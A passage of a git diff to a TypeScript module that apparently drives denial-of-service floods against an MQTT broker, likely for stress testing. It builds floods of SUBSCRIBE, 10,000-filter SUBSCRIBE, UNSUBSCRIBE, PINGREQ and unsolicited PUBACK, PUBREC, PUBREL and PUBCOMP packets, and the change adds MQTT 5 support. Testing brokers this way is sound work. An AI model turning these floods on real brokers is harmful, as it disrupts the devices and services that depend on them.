@@ -2,7 +2,6 @@
 // with reading the answers and without.
 
 import type { Socket } from 'node:net'
-import { publishBytes } from '../../support/mqtt-device.ts'
 import { repeated, type Attack, type AttackKit } from './attack-kit.ts'
 
 const connections = 4
@@ -10,24 +9,30 @@ const chunkBytes = 64 * 1024
 const idMax = 65_535
 
 /** Bytes of the packets from `first` on, about a chunk. */
-type Chunk = (first: number) => { bytes: Buffer; next: number }
+type Chunk = (kit: AttackKit, first: number) => { bytes: Buffer; next: number }
+
+type Make = (kit: AttackKit, high: number, low: number) => Buffer
 
 const packetOf = (head: number, ...body: readonly number[]) => Buffer.from([head, body.length, ...body])
 
-function always(packet: Buffer): Chunk {
-  const bytes = repeated(packet, Math.max(1, Math.floor(chunkBytes / packet.length)))
-  return () => ({ bytes, next: 0 })
+function always(make: (kit: AttackKit) => Buffer): Chunk {
+  let bytes: Buffer | null = null
+  return (kit) => {
+    const packet = make(kit)
+    bytes ??= repeated(packet, Math.max(1, Math.floor(chunkBytes / packet.length)))
+    return { bytes, next: 0 }
+  }
 }
 
 /** Packets with ascending identifiers. `make` writes an identifier of two bytes. */
-function ascending(make: (high: number, low: number) => Buffer): Chunk {
-  const size = make(0, 1).length
-  return (first) => {
+function ascending(make: Make): Chunk {
+  return (kit, first) => {
+    const size = make(kit, 0, 1).length
     const parts: Buffer[] = []
     let id = first
     for (let bytes = 0; bytes + size <= chunkBytes; bytes += size) {
       id = (id % idMax) + 1
-      parts.push(make(id >> 8, id & 0xff))
+      parts.push(make(kit, id >> 8, id & 0xff))
     }
     return { bytes: Buffer.concat(parts), next: id }
   }
@@ -36,7 +41,7 @@ function ascending(make: (high: number, low: number) => Buffer): Chunk {
 async function flood(kit: AttackKit, socket: Socket, chunk: Chunk): Promise<void> {
   let next = 0
   for (;;) {
-    const made = chunk(next)
+    const made = chunk(kit, next)
     next = made.next
     if (!(await kit.write(socket, made.bytes))) break
     await new Promise(setImmediate)
@@ -45,53 +50,56 @@ async function flood(kit: AttackKit, socket: Socket, chunk: Chunk): Promise<void
 }
 
 const filter = [0, 1, 0x61]
-const publish = (qos: 0 | 1 | 2, payload: string) => (high: number, low: number) =>
-  publishBytes({ topic: 'telemetry/v1/truck-7', payload, qos, messageId: high * 256 + low })
+/** Of MQTT 5: no properties. */
+const section = ({ target }: AttackKit) => (target.version === 5 ? [0] : [])
+const publish = (qos: 0 | 1 | 2, payload: string) => (kit: AttackKit, high: number, low: number) =>
+  kit.publish({ topic: 'telemetry/v1/truck-7', payload, qos, messageId: high * 256 + low })
 const position = JSON.stringify({ ts: Date.now(), gps: { lat: 1, lon: 2 } })
 
-function wideSubscribe(): Buffer {
+function wideSubscribe(kit: AttackKit): Buffer {
   const filters = repeated(Buffer.from([...filter, 0]), 10_000)
-  const length = filters.length + 2
+  const before = [0, 1, ...section(kit)]
+  const length = filters.length + before.length
   const head = [0x82, (length & 0x7f) | 0x80, ((length >> 7) & 0x7f) | 0x80, length >> 14]
-  return Buffer.concat([Buffer.from([...head, 0, 1]), filters])
+  return Buffer.concat([Buffer.from([...head, ...before]), filters])
 }
 
 const kinds: readonly { name: string; does: string; chunk: Chunk; clean?: boolean }[] = [
   {
     name: 'subscribe',
     does: 'floods SUBSCRIBE',
-    chunk: ascending((high, low) => packetOf(0x82, high, low, ...filter, 0)),
+    chunk: ascending((kit, high, low) => packetOf(0x82, high, low, ...section(kit), ...filter, 0)),
   },
   {
     name: 'subscribe-wide',
     does: 'floods SUBSCRIBE with 10,000 filters each',
-    chunk: always(wideSubscribe()),
+    chunk: always(wideSubscribe),
   },
   {
     name: 'unsubscribe',
     does: 'floods UNSUBSCRIBE',
-    chunk: ascending((high, low) => packetOf(0xa2, high, low, ...filter)),
+    chunk: ascending((kit, high, low) => packetOf(0xa2, high, low, ...section(kit), ...filter)),
   },
-  { name: 'pingreq', does: 'floods PINGREQ', chunk: always(packetOf(0xc0)) },
+  { name: 'pingreq', does: 'floods PINGREQ', chunk: always(() => packetOf(0xc0)) },
   {
     name: 'puback',
     does: 'floods PUBACK for messages that it never got',
-    chunk: ascending((high, low) => packetOf(0x40, high, low)),
+    chunk: ascending((_kit, high, low) => packetOf(0x40, high, low)),
   },
   {
     name: 'pubrec',
     does: 'floods PUBREC for messages that it never got',
-    chunk: ascending((high, low) => packetOf(0x50, high, low)),
+    chunk: ascending((_kit, high, low) => packetOf(0x50, high, low)),
   },
   {
     name: 'pubrel',
     does: 'floods PUBREL for messages that it never sent',
-    chunk: ascending((high, low) => packetOf(0x62, high, low)),
+    chunk: ascending((_kit, high, low) => packetOf(0x62, high, low)),
   },
   {
     name: 'pubcomp',
     does: 'floods PUBCOMP for messages that it never got',
-    chunk: ascending((high, low) => packetOf(0x70, high, low)),
+    chunk: ascending((_kit, high, low) => packetOf(0x70, high, low)),
   },
   {
     name: 'qos2-unreleased',
